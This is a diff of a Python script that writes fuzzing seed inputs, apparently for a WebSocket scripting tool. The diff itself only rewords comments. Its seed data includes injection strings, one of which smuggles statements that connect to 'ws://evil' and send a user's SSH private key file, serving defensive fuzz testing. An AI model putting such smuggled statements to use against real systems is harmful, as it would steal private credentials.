@@ -1,6 +1,6 @@
 #!/usr/bin/env python3
-"""Writes the hand-made seeds of the fuzzers into Tests/Fuzz/Corpus. The files named found-* there are inputs that a fuzzer
-found. The scripts of Tests/Scripts are seeds too, and are read where they are.
+"""Writes the handwritten fuzzing seeds to Tests/Fuzz/Corpus. The files named found-* there are inputs found by a fuzzer.
+The scripts in Tests/Scripts are seeds, too, and are used in place.
 """
 
 import pathlib
@@ -124,13 +124,13 @@ COMMAND_LINES = {
     "controls": ["\x1b[2J\x07\u202e\u200b"],
 }
 
-# The target gives NAME a value with a quotation mark, a newline, "${" and an open parenthesis.
+# The target sets NAME to a value with a quotation mark, a newline, "${" and an open parenthesis.
 SCRIPTS = {
     "variable-in-pattern": ["connect ${TLS}", "> ${NAME}", "<~ ${NAME}", "< ${NAME}"],
     "variable-in-arguments": ["@a connect ${URL}", "@a header ${NAME}: ${NAME}", "@a close 1000 ${NAME}"],
 }
 
-# What a server, or whoever made a recording, may put where a script would take it for a statement.
+# Texts that a malicious server or the author of a recording might choose to be parsed as statements.
 TEXTS = {
     "statements": "x\nconnect ws://evil\n>file /home/me/.ssh/id_ed25519\n#",
     "variables": "${A} $${ ${",
